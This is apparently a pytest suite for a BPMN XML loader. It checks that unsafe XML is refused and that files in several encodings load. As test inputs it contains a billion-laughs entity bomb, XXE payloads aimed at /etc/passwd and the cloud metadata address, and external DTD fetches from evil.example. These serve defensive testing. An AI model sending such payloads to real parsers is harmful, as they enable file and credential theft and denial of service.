"""Safe loading: hostile XML is refused quickly and clearly, honest files in any encoding load."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from bpmn.errors import BpmnError, Problem
from bpmn.loading import BpmnDocument, Limits, load_document, load_file

DATA = Path(__file__).resolve().parent.parent / "data" / "bpmn"

MINIMAL = b"""<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="Defs_1">
  <bpmn:process id="Process_1">
    <bpmn:startEvent id="Start_1"/>
  </bpmn:process>
</bpmn:definitions>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE bpmn:definitions [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">
  <bpmn:process id="P" name="&lol9;"/>
</bpmn:definitions>
"""


def xxe(url: str) -> bytes:
    return f"""<?xml version="1.0"?>
<!-- a harmless comment first -->
<!DOCTYPE bpmn:definitions [
  <!ENTITY xxe SYSTEM "{url}">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D">
  <bpmn:process id="P" name="&xxe;"/>
</bpmn:definitions>
""".encode()


def only_problem(exc: pytest.ExceptionInfo[BpmnError]) -> Problem:
    assert len(exc.value.problems) == 1
    return exc.value.problems[0]


def test_minimal_document_loads_with_index_lines_and_hash() -> None:
    doc = load_document(MINIMAL, source="minimal.bpmn")
    assert isinstance(doc, BpmnDocument)
    assert doc.root.get("id") == "Defs_1"
    start = doc.element("Start_1")
    assert start is not None and doc.line(start) == 4
    assert doc.element("missing") is None
    assert len(doc.sha256) == 64
    assert doc.source == "minimal.bpmn"


def test_billion_laughs_is_refused_fast_naming_the_entity_line() -> None:
    started = time.perf_counter()
    with pytest.raises(BpmnError) as exc:
        load_document(BILLION_LAUGHS, source="laughs.bpmn")
    assert time.perf_counter() - started < 0.2
    problem = only_problem(exc)
    assert problem.code == "xml.entity"
    assert problem.line == 3
    assert "entit" in problem.message
    assert "laughs.bpmn" in str(exc.value)


@pytest.mark.parametrize("url", ["file:///etc/passwd", "http://169.254.169.254/latest/meta-data"])
def test_xxe_is_refused(url: str) -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(xxe(url))
    problem = only_problem(exc)
    assert problem.code == "xml.entity"
    assert problem.line == 4
    assert "root:" not in str(exc.value)


def test_parameter_entity_is_refused() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<d/>"""
    with pytest.raises(BpmnError) as exc:
        load_document(data)
    assert only_problem(exc).code == "xml.entity"


def test_external_dtd_is_refused() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://evil.example/bpmn.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D"/>"""
    with pytest.raises(BpmnError) as exc:
        load_document(data)
    problem = only_problem(exc)
    assert problem.code == "xml.external_dtd"
    assert problem.line == 2


def test_harmless_doctype_without_entities_loads() -> None:
    data = MINIMAL.replace(b"?>\n", b"?>\n<!DOCTYPE definitions>\n", 1)
    assert load_document(data).root.get("id") == "Defs_1"


def test_undeclared_entity_reference_is_refused() -> None:
    data = MINIMAL.replace(b'id="Start_1"', b'id="Start_1" name="&secret;"')
    with pytest.raises(BpmnError) as exc:
        load_document(data)
    problem = only_problem(exc)
    assert problem.code == "xml.entity"
    assert problem.line == 4


def test_oversized_data_is_refused_before_parsing() -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(MINIMAL, limits=Limits(max_bytes=100))
    assert only_problem(exc).code == "xml.too_large"


def test_oversized_file_is_refused_without_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.bpmn"
    path.write_bytes(MINIMAL + b" " * 5000)
    with pytest.raises(BpmnError) as exc:
        load_file(path, limits=Limits(max_bytes=1000))
    assert only_problem(exc).code == "xml.too_large"


def test_too_many_elements_is_refused() -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(MINIMAL, limits=Limits(max_elements=2))
    assert only_problem(exc).code == "xml.too_large"


def nested(levels: int) -> bytes:
    head = b'<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">'
    return head + b"\n<x>" * levels + b"</x>" * levels + b"</bpmn:definitions>"


def test_too_deep_is_refused_with_line() -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(nested(250))
    problem = only_problem(exc)
    assert problem.code == "xml.too_deep"
    assert problem.line == 201  # the 201st level sits on line 201 of this document


def test_pathologically_deep_is_refused_fast() -> None:
    started = time.perf_counter()
    with pytest.raises(BpmnError) as exc:
        load_document(nested(100_000))
    assert time.perf_counter() - started < 0.5
    assert only_problem(exc).code == "xml.too_deep"


def test_depth_within_limit_loads() -> None:
    assert load_document(nested(150)).root is not None


def test_truncated_file_is_a_syntax_error_with_line() -> None:
    truncated = MINIMAL[: MINIMAL.index(b"</bpmn:process>")]
    with pytest.raises(BpmnError) as exc:
        load_document(truncated)
    problem = only_problem(exc)
    assert problem.code == "xml.syntax"
    assert problem.line is not None and problem.line >= 4


@pytest.mark.parametrize("data", [b"", b"   \n", b"not xml at all"])
def test_empty_or_garbage_is_a_syntax_error(data: bytes) -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(data)
    assert only_problem(exc).code == "xml.syntax"


@pytest.mark.parametrize(
    "data",
    [
        b"<definitions/>",
        b'<definitions xmlns="http://www.omg.org/bpmn20"/>',
        b'<bpmn:process xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>',
    ],
)
def test_root_other_than_bpmn_definitions_is_not_bpmn(data: bytes) -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(data)
    assert only_problem(exc).code == "xml.not_bpmn"


@pytest.mark.parametrize(
    ("name", "process_name", "start_name"),
    [
        ("encoding_utf8.bpmn", "Регистрация гражданина", "Заявление"),
        ("encoding_utf8_bom.bpmn", "Регистрация гражданина", "Заявление"),
        ("encoding_utf8_bom_no_prolog.bpmn", "Регистрация гражданина", "Заявление"),
        ("encoding_iso8859_1.bpmn", "Déclaration à l'agence", "Demande"),
        ("encoding_windows1252.bpmn", "Prüfung – “Antrag” €", "Demande"),
    ],
)
def test_encodings(name: str, process_name: str, start_name: str) -> None:
    doc = load_file(DATA / name)
    process = doc.element("Process_Enc")
    start = doc.element("Start")
    assert process is not None and process.get("name") == process_name
    assert start is not None and start.get("name") == start_name
    assert doc.source is not None and doc.source.endswith(name)


def test_missing_file_is_a_bpmn_error(tmp_path: Path) -> None:
    with pytest.raises(BpmnError) as exc:
        load_file(tmp_path / "absent.bpmn")
    assert only_problem(exc).code == "file.unreadable"


def test_problem_and_error_serialise() -> None:
    with pytest.raises(BpmnError) as exc:
        load_document(b"<a>", source="x.bpmn")
    body = exc.value.to_dict()
    assert body["problems"][0]["code"] == "xml.syntax"
    assert body["problems"][0]["severity"] == "error"
    assert set(body["problems"][0]) == {"code", "severity", "message", "element_id", "line"}
